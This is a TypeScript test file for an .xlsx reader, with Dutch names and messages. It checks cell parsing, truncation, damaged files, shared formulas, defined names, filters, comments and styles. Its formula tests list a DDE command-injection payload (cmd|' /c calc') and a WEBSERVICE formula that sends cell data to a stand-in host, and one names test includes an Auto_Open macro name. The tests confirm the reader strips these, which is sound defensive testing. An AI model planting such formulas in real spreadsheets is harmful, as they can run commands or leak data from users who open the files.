import { describe, expect, it } from 'vitest';
import { lees, leesBlad, opAdres, relaties, rij, werkmapXml, xlsx } from './bestand.hulp';
import { passendeCeltekst } from './celtekst';

const HOOFD = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const stijlen = (inhoud: string) => ({ 'xl/styles.xml': `<styleSheet ${HOOFD}>${inhoud}</styleSheet>` });

describe('waarden', () => {
  it('van elke soort', async () => {
    const blad = await leesBlad(
      xlsx(
        rij(
          '<c t="s"><v>1</v></c>',
          '<c t="inlineStr"><is><r><t>vet </t></r><r><t xml:space="preserve">gewoon</t></r><rPh><t>x</t></rPh></is></c>',
          '<c t="b"><v>1</v></c>',
          '<c t="e"><v>#N/A</v></c>',
          '<c t="d"><v>2027-01-02T12:00:00</v></c>',
          '<c t="str"><f>A1&amp;"x"</f><v>tekst</v></c>',
          '<c><v>1e-3</v></c>',
          '<c><v></v></c>',
          '<c t="inlineStr"><v>zonder is</v></c>',
          '<c t="s"><is><t>zonder nummer</t></is></c>',
          '<c t="inlineStr"/>',
        ),
        { 'xl/sharedStrings.xml': `<sst ${HOOFD}><si><t>nul</t></si><si><t>een_x000D_twee</t></si></sst>` },
      ),
    );
    expect(opAdres(blad)).toEqual({
      A1: { waarde: 'een\rtwee' },
      B1: { waarde: 'vet gewoon' },
      C1: { waarde: true },
      D1: { waarde: '#N/A', fout: true },
      E1: { waarde: 46389.5 },
      F1: { waarde: 'tekst', formule: '=A1&"x"' },
      G1: { waarde: 0.001 },
      I1: { waarde: 'zonder is' },
      J1: { waarde: 'zonder nummer' },
    });
  });

  it('een datum die vanaf 1904 telt wordt dezelfde dag vanaf 1900', async () => {
    const { boek, zinnen } = await lees(
      xlsx(rij('<c s="1"><v>0</v></c>', '<c><v>0</v></c>'), {
        'xl/workbook.xml': werkmapXml('', '<workbookPr date1904="1"/>'),
        ...stijlen('<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'),
      }),
    );
    expect(opAdres(boek.bladen[0]!)).toEqual({ A1: { waarde: 1462 }, B1: { waarde: 0 } });
    expect(zinnen).toHaveLength(1);
  });
});

describe('een cel die niet past of niet te lezen is', () => {
  it('wordt afgekapt op 32.767 tekens, met een zin die zegt waar', async () => {
    const lang = 'x'.repeat(32_768);
    const { boek, zinnen } = await lees(
      xlsx(
        rij(
          `<c t="inlineStr"><is><t>${lang}</t></is></c>`,
          `<c t="str"><f>A1</f><v>${lang}</v></c>`,
          `<c t="inlineStr"><is><t>${lang.slice(1)}</t></is></c>`,
        ),
      ),
    );
    expect(boek.bladen[0]!.cellen.map(({ waarde }) => String(waarde).length)).toEqual([
      32_767, 32_767, 32_767,
    ]);
    expect(zinnen).toEqual([
      'In 2 cellen stond meer dan 32.767 tekens, meer dan Excel in een cel kan houden; het eind is weggelaten (Blad1!A1, Blad1!B1).',
    ]);
  });

  it('knipt geen teken doormidden', () => {
    expect(passendeCeltekst(`${'x'.repeat(32_766)}😀`)).toBe('x'.repeat(32_766));
    expect(passendeCeltekst(`${'x'.repeat(32_765)}😀`)).toBe(`${'x'.repeat(32_765)}😀`);
  });

  it('wordt geteld en genoemd als het bestand beschadigd is', async () => {
    const { boek, zinnen } = await lees(
      xlsx(
        rij(
          '<c t="s"><v>0</v></c>',
          '<c t="s"><v>1</v></c>',
          '<c t="s"/>',
          '<c><v>1e400</v></c>',
          '<c><v>vijf</v></c>',
          '<c t="s"><f>A1</f><v>9</v></c>',
          '<c><v>5</v></c>',
        ),
        { 'xl/sharedStrings.xml': `<sst ${HOOFD}><si><t>nul</t></si></sst>` },
      ),
    );
    expect(opAdres(boek.bladen[0]!)).toEqual({
      A1: { waarde: 'nul' },
      F1: { waarde: null, formule: '=A1' },
      G1: { waarde: 5 },
    });
    expect(zinnen).toEqual([
      'Dit bestand is beschadigd: van 3 cellen is de inhoud niet te lezen en die zijn nu leeg (Blad1!B1, Blad1!D1, Blad1!E1). Vergelijk met het origineel voordat u verder rekent.',
    ]);
  });

  it('wordt ook genoemd als alle teksten ontbreken, en als een blad ontbreekt', async () => {
    const zonder = await lees(xlsx(rij('<c t="s"><v>0</v></c>', '<c><v>5</v></c>')));
    expect(zonder.zinnen).toEqual([
      expect.stringMatching(/^Dit bestand is beschadigd: van één cel .*\(Blad1!A1\)/),
    ]);
    const werkmap = werkmapXml().replace('</sheets>', '<sheet name="Weg" r:id="rId9"/></sheets>');
    const { boek, zinnen } = await lees(xlsx(rij('<c><v>5</v></c>'), { 'xl/workbook.xml': werkmap }));
    expect(boek.bladen.map(({ naam }) => naam)).toEqual(['Blad1']);
    expect(zinnen).toEqual([expect.stringMatching(/dit blad ontbreekt en is niet geopend: Weg\./)]);
  });
});

describe('wat langer is dan 8.192 tekens', () => {
  const lang = `A1+"${'x'.repeat(8200)}"`;

  it('komt niet mee als naam, invoerregel, voorwaarde of getalopmaak, en de rest wel', async () => {
    const { boek, zinnen } = await lees(
      xlsx(
        '<sheetData><row r="1"><c r="A1" s="1"><v>1</v></c></row></sheetData>' +
          `<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>${lang}</formula></cfRule><cfRule type="expression"><formula>A1</formula></cfRule></conditionalFormatting>` +
          `<dataValidations><dataValidation type="custom" sqref="A1"><formula1>${lang}</formula1></dataValidation><dataValidation type="custom" sqref="B1"><formula1>A1</formula1></dataValidation></dataValidations>`,
        {
          'xl/workbook.xml': werkmapXml(
            `<definedNames><definedName name="LANG">${lang}</definedName><definedName name="KORT">Blad1!$A$1</definedName></definedNames>`,
          ),
          ...stijlen(
            `<numFmts><numFmt numFmtId="200" formatCode="${'0'.repeat(8200)}"/></numFmts><cellXfs><xf/><xf numFmtId="200"/></cellXfs>`,
          ),
        },
      ),
    );
    const [blad] = boek.bladen;
    expect(blad!.voorwaarden.map(({ formule }) => formule)).toEqual(['=A1']);
    expect(blad!.validaties.map(({ adres }) => adres)).toEqual(['B1']);
    expect(boek.namen.map(({ naam }) => naam)).toEqual(['KORT']);
    expect(boek.stijlen).toEqual([]);
    expect(zinnen).toEqual([
      'Wat langer is dan 8.192 tekens is weggelaten: een getalopmaak, een voorwaarde op blad Blad1, een invoerregel op blad Blad1 en elders.',
    ]);
  });

  it('houdt als gedeelde formule in elke cel alleen de uitkomst', async () => {
    const { boek, zinnen } = await lees(
      xlsx(rij(`<c><f t="shared" si="0">${lang}</f><v>1</v></c>`, '<c><f t="shared" si="0"/><v>2</v></c>')),
    );
    expect(opAdres(boek.bladen[0]!)).toEqual({ A1: { waarde: 1 }, B1: { waarde: 2 } });
    expect(zinnen).toEqual([expect.stringMatching(/^Van 2 formules van meer dan 8\.192 tekens/)]);
  });
});

describe('formules', () => {
  it('die een bestand deelt, schuiven mee', async () => {
    const { boek, zinnen } = await lees(
      xlsx(
        '<sheetData><row r="2"><c r="B2"><f t="shared" ref="B2:C3" si="0">SUM(A$2:A2)*$A2</f><v>1</v></c><c r="C2"><f t="shared" si="0"/><v>2</v></c></row>' +
          '<row r="3"><c r="B3"><f t="shared" si="0"/><v>3</v></c><c r="C3"><f t="shared" si="7"/><v>4</v></c></row></sheetData>',
      ),
    );
    expect(opAdres(boek.bladen[0]!)).toEqual({
      B2: { waarde: 1, formule: '=SUM(A$2:A2)*$A2' },
      C2: { waarde: 2, formule: '=SUM(B$2:B2)*$A2' },
      B3: { waarde: 3, formule: '=SUM(A$2:A3)*$A3' },
      C3: { waarde: 4 },
    });
    expect(zinnen).toEqual([
      expect.stringMatching(/^Van één formule die niet meer in het bestand staat .*Blad1!C3/),
    ]);
  });

  it.each([
    ['[1]Blad!A1', 'die naar een ander bestand'],
    ["'C:\\map\\[boek.xlsx]Blad'!A1", 'die naar een ander bestand'],
    ["cmd|' /c calc'!A0", 'die naar een ander bestand'],
    ['WEBSERVICE("https://elders.example/?"&amp;A1)', 'die naar een ander bestand'],
    ['Tabel1[[#This Row],[baten]]', 'die een tabel bij naam noemt'],
    [`"${'x'.repeat(8200)}"`, 'van meer dan 8.192 tekens'],
  ])('%s houdt alleen zijn uitkomst', async (formule, reden) => {
    const { boek, zinnen } = await lees(xlsx(rij(`<c r="A1"><f>${formule}</f><v>5</v></c>`)));
    expect(opAdres(boek.bladen[0]!)).toEqual({ A1: { waarde: 5 } });
    expect(zinnen).toEqual([expect.stringContaining(`Van één formule ${reden}`)]);
  });

  it('die over cellen liep laat daar dan gewone waarden achter', async () => {
    const blad = await leesBlad(
      xlsx(rij('<c r="A1"><f t="array" ref="A1:B1">[1]Blad!A1:B1</f><v>5</v></c>', '<c r="B1"><v>6</v></c>')),
    );
    expect(opAdres(blad)).toEqual({ A1: { waarde: 5 }, B1: { waarde: 6 } });
  });

  it('met tekst die daarop lijkt blijft staan', async () => {
    const blad = await leesBlad(
      xlsx(rij('<c r="A1"><f>"[1]Blad!A1"&amp;{1,2}&amp;\'a[b]\'!B1</f><v>5</v></c>')),
    );
    expect(opAdres(blad).A1!.formule).toBe(`="[1]Blad!A1"&{1,2}&'a[b]'!B1`);
  });
});

describe('namen', () => {
  it('naar een ander bestand of nergens naar komen niet mee', async () => {
    const { boek, zinnen } = await lees(
      xlsx(rij('<c r="A1"><v>1</v></c>'), {
        'xl/workbook.xml': werkmapXml(
          '<definedNames><definedName name="GOED">Blad1!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">Blad1!$A$1</definedName>' +
            '<definedName name="WEG">#REF!</definedName><definedName name="BUITEN">[1]Blad!$A$1</definedName><definedName name="Auto_Open" xlm="1">Macro!$A$1</definedName>' +
            '<definedName name="LOKAAL" localSheetId="0">Blad1!$A$1*2</definedName></definedNames>',
        ),
      }),
    );
    expect(boek.namen).toEqual([
      { naam: 'GOED', formule: '=Blad1!$A$1' },
      { naam: 'LOKAAL', formule: '=Blad1!$A$1*2', blad: 'Blad1' },
    ]);
    expect(zinnen).toEqual([expect.stringMatching(/WEG, BUITEN, Auto_Open\.$/)]);
  });
});

describe('rijen', () => {
  it('die een filter verbergt zijn weer zichtbaar', async () => {
    const { boek, zinnen } = await lees(
      xlsx(
        '<sheetData><row r="1"/><row r="2" hidden="1"/><row r="3" hidden="1" ht="20" customHeight="1"/></sheetData>' +
          '<autoFilter ref="A1:A3"><filterColumn colId="0"/></autoFilter>',
      ),
    );
    expect(boek.bladen[0]!.rijen).toEqual([{ rij: 2, hoogte: 20 }]);
    expect(zinnen).toEqual(['Filters zijn weggelaten; alle rijen zijn zichtbaar (blad Blad1).']);
  });
});

describe('samengevoegde cellen', () => {
  it('die overlappen: de eerste blijft', async () => {
    const blad = await leesBlad(
      xlsx(
        '<sheetData/><mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C3"/><mergeCell ref="D4"/></mergeCells>',
      ),
    );
    expect(blad.samengevoegd).toEqual(['A1:B2']);
  });
});

describe('notities', () => {
  it('zonder de aanhef die Excel bij een gesprek zet', async () => {
    const tekst = '[Threaded comment]&#10;Your version of Excel…&#10;Comment:&#10;    graag nagaan';
    const blad = await leesBlad(
      xlsx('<sheetData/>', {
        'xl/worksheets/_rels/sheet1.xml.rels': relaties({ rId1: ['comments', '../comments1.xml'] }),
        'xl/comments1.xml': `<comments ${HOOFD}><commentList><comment ref="B2"><text><t>${tekst}</t></text></comment><comment ref="B3"><text><t> </t></text></comment></commentList></comments>`,
      }),
    );
    expect(blad.notities).toEqual([{ adres: 'B2', tekst: 'graag nagaan' }]);
  });
});

describe('stijlen', () => {
  it('met kleuren van het thema, lichter en donkerder, en ingebouwde opmaak', async () => {
    const { boek } = await lees(
      xlsx(rij('<c s="1"><v>1</v></c>'), {
        ...stijlen(
          '<fonts><font><sz val="11"/><name val="Calibri"/></font><font><b val="0"/><i/><u val="none"/><sz val="11"/><color theme="4"/><name val="Calibri"/></font></fonts>' +
            '<fills><fill/><fill><patternFill patternType="solid"><fgColor theme="4" tint="0.5"/></patternFill></fill></fills>' +
            '<borders><border/><border><left style="constructor"/><top style="thin"><color indexed="10"/></top></border></borders>' +
            '<cellXfs><xf/><xf numFmtId="10" fontId="1" fillId="1" borderId="1"/></cellXfs>',
        ),
      }),
    );
    expect(boek.stijlen).toEqual([
      {
        getalopmaak: '0.00%',
        cursief: true,
        tekst: '#4472C4',
        vlak: '#A2B9E2',
        randen: { boven: { lijn: 'dun', kleur: '#FF0000' } },
      },
    ]);
  });
});
